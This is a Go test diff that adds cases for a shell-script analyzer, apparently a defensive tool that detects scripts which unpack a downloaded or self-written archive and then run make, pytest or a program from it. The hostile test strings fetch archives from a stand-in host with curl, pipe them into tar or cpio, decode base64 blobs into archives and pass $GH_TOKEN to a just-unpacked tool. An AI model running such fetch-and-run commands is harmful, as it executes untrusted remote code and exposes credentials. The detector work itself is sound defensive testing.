@@ -31,6 +31,37 @@ func TestWriteThenRunStartupFiles(t *testing.T) {
 	}
 }
 
+// An archive the script downloaded, wrote or piped in, unpacked where it
+// runs, may hold any file of the project (a Makefile, package.json,
+// conftest.py, the program run next); one already in the directory is the
+// project's own, like its Makefile.
+func TestWriteThenRunUnpackedInPlace(t *testing.T) {
+	checkTwins(t, []twin{
+		{name: "a download piped into tar, then the program", hostile: "curl -fsSL https://get.example/t.tgz | tar xz; ./tool --token \"$GH_TOKEN\"",
+			want: "runs ./tool after the script unpacked a download at line 1", benign: "tar xzf vendor.tgz; ./scripts/build.sh"},
+		{name: "a download unzipped, then make", hostile: "curl -fsSLo x.zip https://get.example/x.zip; unzip -o x.zip; make",
+			want: "make runs code from GNUmakefile, Makefile, makefile after the script unpacked a download at line 1", benign: "unzip -o assets.zip; make"},
+		{name: "a download unpacked into the directory by name, then make", hostile: "curl -fsSLo a.tgz https://get.example/a.tgz; tar -xzf a.tgz -C .; make",
+			want: "after the script unpacked a download at line 1", benign: "tar -xzf a.tgz -C .; make"},
+		{name: "a download unpacked elsewhere, then make there", hostile: "curl -fsSLo a.tgz https://get.example/a.tgz\ntar -xzf a.tgz -C sub\nmake -C sub",
+			want: "unpacked a download at line 2", benign: "tar -xzf a.tgz -C sub\nmake -C sub"},
+		{name: "cpio from a download, then make", hostile: "curl -s https://get.example/a | cpio -id; make", want: "unpacked a download at line 1",
+			benign: "cpio -id < vendor.cpio; make"},
+		{name: "an archive the script wrote, then pytest", hostile: "base64 -d <<< \"$BLOB\" > a.tgz; tar xzf a.tgz; pytest -q",
+			want: "it unpacked an archive it wrote at line 1 (a.tgz)", benign: "tar czf a.tgz src; pytest -q", shell: "bash"},
+		{name: "an archive the script wrote, then a script file", hostile: "git show origin/x:a.tgz > a.tgz; tar xzf a.tgz; bash build.sh",
+			want: "bash runs code from build.sh, which the script may have changed at line 1", benign: "tar xzf a.tgz; ./build.sh"},
+	})
+	// Listing an archive writes nothing; xargs does not feed its pipe to
+	// the program it runs.
+	for _, s := range []string{"curl -fsSLo x.zip https://get.example/x.zip; unzip -l x.zip; make",
+		"git ls-files -z '*.md' | xargs -0 sed -i 's/ *$//'; git diff --stat"} {
+		if a := testAnalyze([]string{"sh", "-c", s}); !a.Understood {
+			t.Errorf("%q is not understood:\n%s", s, dump(a))
+		}
+	}
+}
+
 func TestWriteThenRunIntoDirectories(t *testing.T) {
 	checkTwins(t, []twin{
 		{name: "tar -C a directory, then a script from it", hostile: "mkdir -p t && tar -xzf x.tgz -C t && sh t/run.sh",
